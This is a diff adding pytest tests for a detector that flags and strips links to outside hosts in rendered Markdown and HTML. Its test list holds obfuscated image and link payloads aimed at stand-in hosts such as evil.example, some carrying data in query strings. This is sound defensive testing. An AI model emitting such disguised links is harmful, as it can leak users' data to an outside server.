@@ -107,3 +107,30 @@ def test_the_time_grows_with_the_text(piece: str) -> None:
 
     urls("a.com")
     assert any(took(80_000) < 24 * max(took(10_000), 0.0025) for _ in range(4))
+
+
+RENDERED = [
+    r"![a](https\://evil\.example/a?d=rest)", r"[a](//evil\.example/a)",
+    "![](https&colon;&sol;&sol;evil&period;example/a)",
+    "[a](//evil&#46;com/a)", "[a](//evil%2Ecom/a)", "![](//2130706433/a)", "![](https:/evil/a)", "[a]( //evil/a)",
+    "[a]: //evil/a", "<img src=//evil/a>", "<a href='ht&Tab;tps:evil/a'>", "![](/&Tab;/evil/a)", "[call](tel:0900)",
+    "![](<https://web.example/ ?d=rest>)", '![](https://web.example/"?d=rest)', '<img src="https://web.example/ ?d=x">',
+    r"![](https\://web\.example/&#32;?d=rest)",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", RENDERED)
+def test_an_address_is_read_as_a_renderer_reads_it(text: str) -> None:
+    assert foreign_urls(text, EVIDENCE)
+    assert not foreign_urls(without_foreign_urls(text, "https://web.example/"), ["https://web.example/"])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r"[form](https\://forms\.example/leave?year=2024)", "[web](https://web.example/).", "handlers[name](request)",
+        "[rest](rest.md#hours)", "[rest](/docs/rest.md)", "[web](<https://web.example/>)", "a < b and c=d:e",
+    ],
+)  # fmt: skip
+def test_links_to_the_evidence_and_within_a_page_may_stand(text: str) -> None:
+    assert foreign_urls(text, EVIDENCE) == []
